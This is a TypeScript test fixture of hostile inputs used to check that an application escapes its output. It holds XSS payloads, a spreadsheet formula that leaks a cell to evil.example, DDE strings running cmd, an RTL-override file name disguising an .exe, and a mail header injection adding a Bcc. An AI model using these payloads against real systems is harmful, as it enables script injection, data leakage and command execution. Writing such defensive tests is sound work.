// Content an attacker, a prankster or a careless paste puts into the desk: HTML and script, right-to-left marks, NUL
// bytes, emoji, spreadsheet formulas. Shared by the output tests and, through the contract, by the e2e journey.

export const hostile = {
  /** A name that is markup: shown as text, it reads exactly so; interpreted, it runs a script. */
  name: '<img src=x onerror=alert(1)>山田\u202E太郎👩‍👩‍👧‍👦',
  script: '<script>alert(document.cookie)</script>',
  /** Formulas a spreadsheet would run from a CSV cell: a link that leaks the row, DDE, arithmetic, a tab in front. */
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  dde: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  plus: '+81 3-1234-5678',
  tab: '\t=1+1',
  /** A right-to-left override that turns "exe.pdf" around on screen. */
  rtlFileName: '請求書\u202Efdp.exe',
  htmlFileName: '<img src=x onerror=alert(1)>.pdf',
  nul: 'NUL\u0000inside',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈🇯🇵',
  /** A carriage return and a header a mail composer must never let through. */
  headerInjection: '山田\r\nBcc: evil@example.com',
} as const;

/** `n` characters of everything above, for the fields that allow that much. */
export function hostileText(n: number): string {
  const unit = `${hostile.script}${hostile.name}${hostile.formula}、`;
  return unit.repeat(Math.ceil(n / unit.length)).slice(0, n).replace(/[\uD800-\uDBFF]$/, '。');
}

/** The cell starts a spreadsheet treats as a formula (OWASP's list, as csv-stringify's `escape_formulas` has it). */
export const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
